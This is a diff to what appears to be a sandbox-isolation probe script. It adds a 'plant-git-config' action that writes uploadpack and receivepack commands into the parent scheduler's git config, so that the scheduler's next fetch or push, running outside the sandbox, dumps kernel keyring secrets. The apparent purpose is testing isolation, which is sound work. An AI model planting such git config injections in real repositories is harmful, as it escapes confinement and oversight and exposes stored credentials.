@@ -12,6 +12,9 @@ file the item owns.
 - ``hog N``: N bytes of memory, touched.
 - ``shm-leave KEY`` / ``shm-read KEY``: a System V shared memory segment left holding a secret / looked for.
 - ``keyring DESC``: the kernel keyring searched (user and session keyrings) for a ``user`` key DESC, read.
+- ``plant-git-config DESC OUT``: unsandboxed, the scheduler's repository (its working directory) gets a
+  ``remote.origin.uploadpack`` and ``receivepack`` that run ``keyring_dump.py DESC OUT`` first: wavegit's
+  own next fetch or push, outside the attempt and its filter, reads the keyring.
 - ``squat PORT SECONDS``: an HTTP server on 127.0.0.1:PORT answering ``ok``, until it served once.
 - ``wait-port PORT``: until something listens on 127.0.0.1:PORT.
 - ``connect PORT``: whether 127.0.0.1:PORT can be reached.
@@ -139,6 +142,15 @@ def keyring(description: str) -> None:
         found.append(f"keyring {ring}: {buffer.raw[:max(size, 0)].decode(errors='replace')}")
 
 
+def plant_git_config(description: str, out: str) -> None:
+    scheduler = Path(os.readlink(f"/proc/{os.getppid()}/cwd"))
+    dump = f"{sys.executable} {Path(__file__).with_name('keyring_dump.py')} {description} {out}"
+    for key, program in (("uploadpack", "git-upload-pack"), ("receivepack", "git-receive-pack")):
+        subprocess.run(["git", "config", "--file", str(scheduler / ".git" / "config"), f"remote.origin.{key}",
+                        f"{dump}; {program}"], check=True)
+    found.append(f"planted in {scheduler}")
+
+
 def squat(port: int, seconds: float) -> None:
     served = threading.Event()
 
@@ -188,6 +200,8 @@ for action, *args in (line.split() for line in sys.stdin.read().splitlines() if 
         shm(int(args[0]), action == "shm-leave")
     elif action == "keyring":
         keyring(args[0])
+    elif action == "plant-git-config":
+        plant_git_config(args[0], args[1])
     elif action == "squat":
         squat(int(args[0]), float(args[1]))
     elif action == "wait-port":
